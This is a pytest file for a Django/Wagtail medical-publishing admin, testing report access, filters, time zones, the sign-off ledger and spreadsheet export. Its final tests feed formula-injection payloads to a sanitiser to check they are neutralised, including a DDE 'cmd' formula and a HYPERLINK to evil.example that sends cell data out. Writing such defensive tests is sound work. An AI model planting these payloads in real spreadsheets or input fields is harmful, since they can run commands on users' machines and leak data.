"""The reports: who may see them, what they tell, how they filter, and what a spreadsheet makes of them."""

import io
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from articles.admin.reports.base import harmless
from articles.record import events
from articles.record.models import Edition, Event, SignOff
from articles.record.vocabulary import EventKind, Role, SubjectKind
from articles.review.submit import submit
from tests.admin.conftest import rows
from tests.factories import make_article, make_topic, make_user, sign_as

REPORTS = ("articles_report_signoffs", "articles_report_ledger", "articles_report_emergencies")


@pytest.fixture
def editor(login, people):
    return login(people.editor)


@pytest.mark.parametrize("name", REPORTS)
@pytest.mark.parametrize("results", ["", "_results"])
def test_nobody_without_the_permission_sees_a_report(login, people, published, name, results):
    answers = {
        group: login(make_user(f"one-of-{group}", group)).get(reverse(f"{name}{results}")).status_code
        for group in ("Authors", "Editors", "Medical reviewers", "Medical leads")
    }

    assert answers.pop("Authors") in (302, 403)
    assert set(answers.values()) == {200}


@pytest.mark.parametrize("name", REPORTS)
def test_reports_stand_in_the_menu_of_those_who_may_see_them(login, people, published, name):
    told = [
        reverse(name) in login(user).get(reverse("wagtailadmin_home")).content.decode()
        for user in (people.editor, people.reviewer, people.author)
    ]

    assert told == [True, True, False]


@pytest.mark.parametrize("name", REPORTS)
def test_a_report_of_many_articles_takes_as_many_queries_as_of_few(
    editor, publish, people, published, name, django_assert_max_num_queries
):
    for _ in range(4):
        publish(make_article(by=people.author, topics=[make_topic()]))
    editor.get(reverse(name))  # what is looked up once for a session

    with django_assert_max_num_queries(32):
        assert editor.get(reverse(name)).status_code == 200


def test_no_report_tells_a_reviewer_the_title_of_a_draft_by_showing_or_by_finding_it(login, people):
    draft = make_article(by=people.author, title="Zwirbelmark in secret")
    sign_as(draft, people.editor, Role.EDITOR)
    reviewer = login(people.reviewer)

    for name in ("articles_report_ledger", "articles_report_signoffs"):
        html = reviewer.get(reverse(name)).content.decode()
        assert "Zwirbelmark" not in html
        assert "an article that has not been submitted yet" in html
        assert rows(reviewer, name, subject="Zwirbelmark") == []
    editor = login(people.editor)
    assert len(rows(editor, "articles_report_signoffs", subject="Zwirbelmark")) == 2


def test_the_sign_off_report_tells_who_signed_what_and_how(editor, published):
    row = next(row for row in rows(editor, "articles_report_signoffs") if row["Role"] == "Medical reviewer")

    signed = SignOff.objects.get(subject=published.article_id, role=Role.MEDICAL)
    assert row["Signed by"] == "Dr Ada Reviewer, MD"
    assert row["Article or component"] == f"Article: {published.title}"
    assert (row["Part"], row["Scope"], row["Method"], row["Voided"]) == (
        "Medical part",
        "The whole text",
        "Password (weaker than a passkey)",
        "No",
    )
    assert row["When (UTC)"] == f"{signed.signed_at:%Y-%m-%d %H:%M:%S}"
    assert (row["Digest"], row["Ledger line"]) == (signed.digest, str(signed.event))


def test_the_sign_off_report_filters_by_person_role_and_days(editor, published):
    today, tomorrow = timezone.now().date(), timezone.now().date() + timedelta(days=1)
    everything = len(rows(editor, "articles_report_signoffs"))

    found = {
        "name": len(rows(editor, "articles_report_signoffs", name="ada")),
        "role": len(rows(editor, "articles_report_signoffs", role="editor")),
        "today": len(rows(editor, "articles_report_signoffs", signed_at_from=today, signed_at_to=today)),
        "tomorrow": len(rows(editor, "articles_report_signoffs", signed_at_from=tomorrow)),
        "before": len(rows(editor, "articles_report_signoffs", signed_at_to=today - timedelta(days=1))),
    }

    assert found == {"name": 3, "role": 3, "today": everything, "tomorrow": 0, "before": 0}


@pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Pacific/Pago_Pago"])  # 14 hours before UTC, 11 behind it
def test_days_and_times_are_those_of_the_persons_own_zone_and_the_downloads_are_in_utc(editor, people, published, zone):
    UserProfile.objects.create(user=people.editor, current_time_zone=zone)
    signed = SignOff.objects.latest("event").signed_at
    there = signed.astimezone(ZoneInfo(zone))

    page = editor.get(reverse("articles_report_signoffs")).content.decode()
    [on_the_day, on_another] = [
        rows(editor, "articles_report_signoffs", signed_at_from=day, signed_at_to=day)
        for day in (there.date(), there.date() + timedelta(days=2))
    ]

    assert f"{there:%-d %b %Y, %H:%M}" in page
    assert f"your time zone ({zone})" in page
    assert on_the_day[0]["When (UTC)"] == f"{signed:%Y-%m-%d %H:%M:%S}"
    assert on_another == []


@pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Pacific/Pago_Pago"])
@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_the_ends_of_the_calendar_are_no_failure_in_any_zone(editor, people, published, zone, day):
    UserProfile.objects.create(user=people.editor, current_time_zone=zone)

    assert editor.get(reverse("articles_report_ledger"), {"at_from": day, "at_to": day}).status_code == 200


def test_a_voided_sign_off_says_when_by_whom_and_why(editor, people, published):
    signed = SignOff.objects.get(subject=published.article_id, role=Role.MEDICAL)
    events.append(
        EventKind.VOIDED,
        subject_kind=SubjectKind.ARTICLE,
        subject=published.article_id,
        actor={"user": 1, "name": "Dr Lead"},
        data={"signoff": signed.pk, "reason": "The license was revoked."},
    )

    row = next(row for row in rows(editor, "articles_report_signoffs") if row["Role"] == "Medical reviewer")

    assert "by Dr Lead: The license was revoked." in row["Voided"]


def test_the_ledger_report_tells_every_line_in_words_newest_first(editor, published):
    found = rows(editor, "articles_report_ledger")

    lines = list(Event.objects.order_by("-number"))
    assert [(int(row["Number"]), row["Hash"]) for row in found] == [(line.number, line.hash) for line in lines]
    assert found[0]["Event"] == "Published"
    assert found[0]["About"] == f"Article: {published.title}"
    assert found[0]["Description"].startswith("Edition 1 was published at “")
    assert found[0]["By"] == "Dr Ada Reviewer"


def test_the_ledger_report_filters_by_kind_person_and_subject(editor, people, published, publish):
    other = publish(make_article(by=people.author))
    edition = Edition.objects.get(subject=other.article_id)

    by_kind = rows(editor, "articles_report_ledger", kind=["published", "submitted"])
    by_actor = rows(editor, "articles_report_ledger", actor="ada")
    by_id = rows(editor, "articles_report_ledger", subject=str(other.article_id), kind="published")
    by_title = rows(editor, "articles_report_ledger", subject=other.title, kind="published")
    by_component = rows(editor, "articles_report_ledger", subject="Consultation")

    assert {row["Event"] for row in by_kind} == {"Published", "Submitted"}
    assert {row["By"] for row in by_actor} == {"Dr Ada Reviewer"}
    assert [row["Number"] for row in by_id] == [row["Number"] for row in by_title] == [str(edition.event)]
    assert {row["About"] for row in by_component} == {"Offer: Consultation"}


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "=cmd|' /C calc'!A0"])
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell):
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Scalp", "2 = 2", "'quoted", "", "sha-256:ab"])
def test_other_cells_stay_as_they_are(cell):
    assert harmless(cell) == cell


@pytest.mark.parametrize("name", ["articles_list", "articles_report_ledger"])
def test_a_title_that_is_a_formula_is_harmless_in_both_kinds_of_file(editor, people, name):
    page = make_article(by=people.author, title='=HYPERLINK("https://evil.example/"&A1)')
    submit(page=page, by=people.author)

    told = [cell for row in rows(editor, name) for cell in row.values()]
    answer = editor.get(reverse(name), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert any("HYPERLINK" in cell for cell in told)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in told)
    assert not any(cell.data_type == "f" or str(cell.value).startswith(("=", "+", "@")) for cell in cells)
